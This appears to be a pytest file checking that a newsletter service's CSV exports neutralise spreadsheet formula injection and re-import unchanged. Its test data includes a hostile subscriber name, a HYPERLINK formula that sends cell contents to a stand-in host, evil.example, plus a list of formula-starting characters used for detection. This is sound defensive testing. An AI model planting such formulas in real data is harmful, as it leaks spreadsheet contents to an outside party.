"""CSV formula injection (issue 11, finding 1): no exported cell runs in a spreadsheet.

The attacker signs up through the public form with a name a spreadsheet
would run (`=HYPERLINK(...)`, `+`, `-`, `@`, a leading tab); an editor then
exports the list from the admin or the command line. Every such cell must
arrive as text (OWASP: a leading apostrophe), and importing the export gives
back exactly what was exported.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from service.extensions import db
from service.models import Subscriber
from service.people_csv import neutralise_cell, restore_cell
from tests.conftest import empty_database, log_in, process_signups, seed_lists

HOSTILE_NAMES = {
    "hyperlink@seznam.cz": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "plus@seznam.cz": "+420 601 123 456",
    "minus@seznam.cz": "-Jana-",
    "ngo@seznam.cz": "@ngo",
    "apostrof@seznam.cz": "'t Hooft",
    "obycejna@seznam.cz": "Jana Nováková",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sign_up_everyone(client) -> None:
    for email, name in HOSTILE_NAMES.items():
        assert client.post("/subscribe", data={"email": email, "name": name}).status_code == 202
    # A tab before the formula: stripped from the name at sign-up, then `=1+1` is left.
    client.post("/subscribe", data={"email": "tab@seznam.cz", "name": "\t=1+1"})
    process_signups()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def exports(client, runner, accounts) -> dict[str, str]:
    sign_up_everyone(client)
    log_in(client, accounts.editor.email)
    admin = client.get("/admin/subscribers/export.csv?list=zpravodaj").get_data(as_text=True)
    cli = runner.invoke(args=["subscribers", "export", "--list", "zpravodaj"])
    assert cli.exit_code == 0, cli.output
    return {"admin": admin, "cli": cli.output}


@pytest.mark.parametrize("source", ["admin", "cli"])
def test_no_exported_cell_starts_like_a_formula(exports, source):
    found = cells(exports[source])
    assert not [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE_NAMES["hyperlink@seznam.cz"] in found
    assert "'-Jana-" in found and "'@ngo" in found and "'+420 601 123 456" in found
    assert "''t Hooft" in found  # so that the import takes exactly one apostrophe off
    assert "Jana Nováková" in found and "obycejna@seznam.cz" in found  # ordinary cells as they were


def test_admin_and_cli_exports_are_the_same_file(exports):
    assert exports["admin"] == exports["cli"]


def test_export_imports_back_unchanged(exports, runner, tmp_path):
    stored = dict(db.session.execute(select(Subscriber.email, Subscriber.name)).all())
    assert stored["tab@seznam.cz"] == "=1+1"
    path = tmp_path / "export.csv"
    path.write_text(exports["cli"], encoding="utf-8")
    db.session.remove()
    empty_database()
    seed_lists()

    result = runner.invoke(
        args=["subscribers", "import", str(path), "--list", "zpravodaj", "--consent-source", "x"]
    )

    assert result.exit_code == 0, result.output
    assert f"importováno {len(stored)}," in result.output
    assert dict(db.session.execute(select(Subscriber.email, Subscriber.name)).all()) == stored


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-Jana-", "@ngo", "\t=1", "\r=1", "'", "''", "'=1", "'t Hooft", "a=b", ""],
)
def test_neutralise_and_restore_are_inverse(value):
    written = neutralise_cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert restore_cell(written) == value


def test_an_apostrophe_before_ordinary_text_is_kept_on_import():
    assert restore_cell("'t Hooft") == "'t Hooft"
    assert restore_cell("'=1+1") == "=1+1"
